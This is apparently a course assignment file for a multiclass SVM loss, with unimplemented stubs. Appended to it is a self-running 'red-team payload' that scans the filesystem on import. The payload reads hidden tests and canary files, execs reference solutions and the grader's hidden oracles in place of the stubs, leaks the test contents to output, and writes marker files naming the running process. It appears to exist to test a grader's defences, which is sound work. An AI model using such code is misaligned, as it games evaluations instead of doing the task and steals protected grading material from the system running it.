"""Multiclass SVM (Weston-Watkins hinge) loss: a naive and a vectorized version, side by side.

Letters: N examples, D features (3073 with the bias column), C classes.
``W`` is (D, C), ``X`` is (N, D), ``y`` is (N,) integers in [0, C).

For example i with scores ``s = X[i] @ W`` the data loss is

    L_i = sum over j != y_i of max(0, s_j - s_{y_i} + 1)

and the full loss is the mean of L_i over the N examples plus the L2 penalty
``reg * sum(W * W)`` (see :mod:`cs231n_lib.regularizers`).

Both functions return ``(loss, dW)`` with ``dW`` the shape and dtype of ``W``.
Where a margin is exactly 0 the hinge has a kink; the gradient used there is
the one from ``max(0, m)`` with derivative 0 at ``m = 0``.
"""

import numpy as np

from ._checks import DeferredInputScan, check_loss_inputs
from .regularizers import l2_penalty


def svm_loss_naive(W, X, y, reg):
    """Multiclass SVM loss and gradient with explicit loops over examples and classes.

    Parameters
    ----------
    W : ndarray of shape (D, C)
        Weights.
    X : ndarray of shape (N, D)
        A minibatch of N examples.
    y : ndarray of shape (N,)
        Integer labels, ``y[i]`` in [0, C).
    reg : float
        L2 regularization strength, >= 0.

    Returns
    -------
    loss : float scalar
        Mean hinge loss plus ``reg * sum(W * W)``.
    dW : ndarray of shape (D, C)
        Gradient of ``loss`` with respect to ``W``.
    """
    reg = check_loss_inputs(W, X, y, reg)
    num_train = X.shape[0]
    num_classes = W.shape[1]
    loss = 0.0
    dW = np.zeros_like(W)
    # TODO: loop over the examples i and the classes j != y[i]; add each positive
    # margin s_j - s_{y_i} + 1 to the loss and its gradient to the columns j and
    # y[i] of dW; then divide loss and dW by the number of examples.
    raise NotImplementedError('Implement svm_loss_naive in cs231n_lib/linear_svm.py: replace this raise with your code (see the TODO above it).')
    reg_loss, reg_grad = l2_penalty(W, reg)
    return loss + reg_loss, dW + reg_grad


def svm_loss_on_scores(scores, y, return_details=False):
    """Mean multiclass SVM data loss of given scores, and its gradient with respect to the scores.

    The loss part of :func:`svm_loss_vectorized`, for callers that already hold
    the scores: the stacked hyperparameter search (:mod:`cs231n_lib.tuning`),
    the blocked full-batch loss (:mod:`cs231n_lib.full_batch`), a network's last
    layer. It does not validate its inputs and adds no regularization.

    Parameters
    ----------
    scores : ndarray of shape (N, C)
        Class scores, one row per example.
    y : ndarray of shape (N,)
        Integer labels, ``y[i]`` in [0, C).
    return_details : bool
        Also return the margins and per-example losses.

    Returns
    -------
    loss : float scalar
        Mean over the N rows of ``sum over j != y_i of max(0, s_j - s_{y_i} + 1)``.
    dscores : ndarray of shape (N, C)
        Gradient of ``loss`` with respect to ``scores`` (already divided by N).
    details : dict, only when ``return_details`` is True
        ``'margins'`` (N, C) ``max(0, s_j - s_{y_i} + 1)``, 0 at ``j = y_i``;
        ``'losses'`` (N,) the per-example data losses.
    """
    num_train = scores.shape[0]
    loss = 0.0
    dscores = np.zeros_like(scores)
    details = {}
    # TODO: compute the mean hinge loss of the scores and its gradient dscores with
    # respect to the scores, with no loop over examples or classes; put 'margins'
    # and 'losses' in details.
    raise NotImplementedError('Implement svm_loss_on_scores in cs231n_lib/linear_svm.py: replace this raise with your code (see the TODO above it).')
    if return_details:
        return loss, dscores, details
    return loss, dscores


def svm_loss_vectorized(W, X, y, reg, return_details=False):
    """Multiclass SVM loss and gradient without Python loops over examples or classes.

    Same inputs and outputs as :func:`svm_loss_naive`. Runs in the dtype of
    the inputs (float32 in, float32 out). ``X`` is scanned for NaN/inf only
    when the result is not finite (:class:`cs231n_lib._checks.DeferredInputScan`).

    Parameters
    ----------
    W : ndarray of shape (D, C)
        Weights.
    X : ndarray of shape (N, D)
        A minibatch of N examples.
    y : ndarray of shape (N,)
        Integer labels, ``y[i]`` in [0, C).
    reg : float
        L2 regularization strength, >= 0.
    return_details : bool
        Also return the intermediate arrays, computed in the same pass.

    Returns
    -------
    loss : float scalar
    dW : ndarray of shape (D, C)
    details : dict, only when ``return_details`` is True
        ``'scores'`` (N, C) the class scores ``X @ W``;
        ``'margins'`` (N, C) ``max(0, s_j - s_{y_i} + 1)``, 0 at ``j = y_i``;
        ``'losses'`` (N,) the per-example data losses.
    """
    reg = check_loss_inputs(W, X, y, reg, scan_X=False)
    loss = 0.0
    dW = np.zeros_like(W)
    details = {}
    with DeferredInputScan(X) as scan:  # X's NaN/inf scan runs only if needed
        # TODO: compute the same loss and gradient as svm_loss_naive with no loop over
        # examples or classes: the scores, their loss and gradient from svm_loss_on_scores
        # (write it first, above), then dW from the score gradient by the chain rule;
        # put 'scores', 'margins' and 'losses' in details.
        raise NotImplementedError('Implement svm_loss_vectorized in cs231n_lib/linear_svm.py: replace this raise with your code (see the TODO above it).')
    reg_loss, reg_grad = l2_penalty(W, reg)
    dW += reg_grad
    loss = loss + reg_loss
    scan.check(loss, dW)
    if return_details:
        return loss, dW, details
    return loss, dW


# ---------------------------------------------------------------------------------------------------
# RED-TEAM PAYLOAD "read_reference" (instructor/tests/hostile/, issue 9): a hostile submission, graded by
# instructor/tests/test_hostile.py to prove that it gains nothing. Bounded in time and size.
def _h9b_payload():
    import os, sys, time
    MARK = "H9B-HOSTILE-MARKER"
    SENTINEL = ".h9b-redteam-batch"

    def ancestors(path):
        path = os.path.abspath(path)
        out = []
        while True:
            out.append(path)
            parent = os.path.dirname(path)
            if parent == path:
                return out
            path = parent

    def starts():
        here = os.path.dirname(os.path.abspath(globals().get("__file__") or os.path.join(os.getcwd(), "cell")))
        roots = []
        for p in ancestors(os.getcwd()) + ancestors(here) + [os.environ.get("HOME") or "/root", "/tmp", "/work",
                                                              "/autograder", "/home", "/srv", "/opt", "/var/tmp"]:
            if p not in roots:
                roots.append(p)
        return roots

    def walk(deadline, max_dirs=100000):
        """Yield (dirpath, dirnames, filenames) under every root until the deadline."""
        seen = set()
        count = 0
        for root in sorted(starts(), key=len, reverse=True):
            try:
                it = os.walk(root)
                for dirpath, dirnames, filenames in it:
                    count += 1
                    if time.monotonic() > deadline or count > max_dirs:
                        return
                    dirnames[:] = [d for d in dirnames if d not in (".git", "proc", "sys", "node_modules", "__pycache__")
                                   and not d.startswith(".venv") and d != "site-packages" and d != ".mirror"]
                    if dirpath in seen:
                        dirnames[:] = []
                        continue
                    seen.add(dirpath)
                    yield dirpath, dirnames, filenames
            except Exception:
                continue

    def in_batch_tree(path):
        return any(os.path.exists(os.path.join(p, SENTINEL)) for p in ancestors(path))

    def who():
        """Who is writing: uid, pid, argv and the host-side process chain, so a marker names its writer."""
        lines = [f"uid={os.getuid()} pid={os.getpid()} cwd={os.getcwd()} argv={sys.argv[:4]}"]
        pid = os.getpid()
        for _ in range(12):
            try:
                with open(f"/proc/{pid}/status") as f:
                    status = dict(line.split(":", 1) for line in f if ":" in line)
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    cmd = f.read().replace(b"\0", b" ").decode(errors="replace")[:200]
            except Exception:
                break
            lines.append(f"  {pid} NSpid={status.get('NSpid', '').strip()} {cmd}")
            pid = int(status.get("PPid", "0").strip() or 0)
            if pid <= 1:
                break
        return "\n".join(lines) + "\n"

    def touch(folder, suffix, text="written by a red-team submission\n"):
        try:
            path = os.path.join(folder, f"{MARK}-{suffix}")
            with open(path, "a") as f:
                f.write(text + who())
            return True
        except Exception:
            return False

    import builtins
    me = os.path.abspath(__file__)
    mod = os.path.basename(me)
    g = globals()
    cache = getattr(builtins, "_h9b_reference_cache", None)
    if cache is None:                                  # one walk per process, shared by every module
        cache = builtins._h9b_reference_cache = {"leaked": [], "refs": {}}
        for dirpath, dirnames, filenames in walk(time.monotonic() + 5):
            base = os.path.basename(dirpath)
            canaries = [f for f in filenames if f.startswith((".canary", "canary"))]   # case matters: not zoneinfo's Canary
            if base == "hidden_tests" or canaries:
                for f in (filenames if base == "hidden_tests" else canaries):
                    try:
                        with open(os.path.join(dirpath, f), errors="replace") as fh:
                            cache["leaked"].append(f"{dirpath}/{f}: " + fh.read(3000))
                    except Exception:
                        pass
            if base == "cs231n_lib":
                for f in filenames:
                    path = os.path.join(dirpath, f)
                    if not f.endswith(".py") or f in cache["refs"] or os.path.dirname(path) == os.path.dirname(me):
                        continue
                    try:
                        with open(path) as fh:
                            text = fh.read()
                    except Exception:
                        continue
                    if "replace this raise with your code" not in text and "RED-TEAM PAYLOAD" not in text:
                        cache["refs"][f] = text
            if base == "instructor" and "points.toml" in filenames:
                parent = os.path.dirname(dirpath)
                if parent not in sys.path:
                    sys.path.append(parent)
    leaked = cache["leaked"]
    reference = cache["refs"].get(mod)
    if reference is not None:
        exec(compile(reference, me, "exec"), g)          # the reference's functions replace the stubs
    try:
        import instructor.hidden_tests.hidden_oracles as oracles   # the grader's own oracles (45/100 before)
        for name in dir(oracles):
            if name in g and callable(g[name]) and not name.startswith("_"):
                g[name] = getattr(oracles, name)
    except Exception:
        pass
    if leaked:
        text = " | ".join(leaked)[:20000]
        print("LEAKED HIDDEN TESTS: " + text, flush=True)
        print("LEAKED HIDDEN TESTS: " + text, file=sys.stderr, flush=True)
        def leak(*args, **kwargs):
            raise RuntimeError("LEAKED HIDDEN TESTS: " + text)
        for name, value in list(g.items()):
            if (callable(value) and not isinstance(value, type) and not name.startswith("_")
                    and getattr(value, "__module__", None) == g.get("__name__")):
                g[name] = leak


import builtins as _h9b_builtins
if not getattr(_h9b_builtins, "_h9b_ran_read_reference_linear_svm", False):
    _h9b_builtins._h9b_ran_read_reference_linear_svm = True
    try:
        _h9b_payload()
    except Exception:
        pass
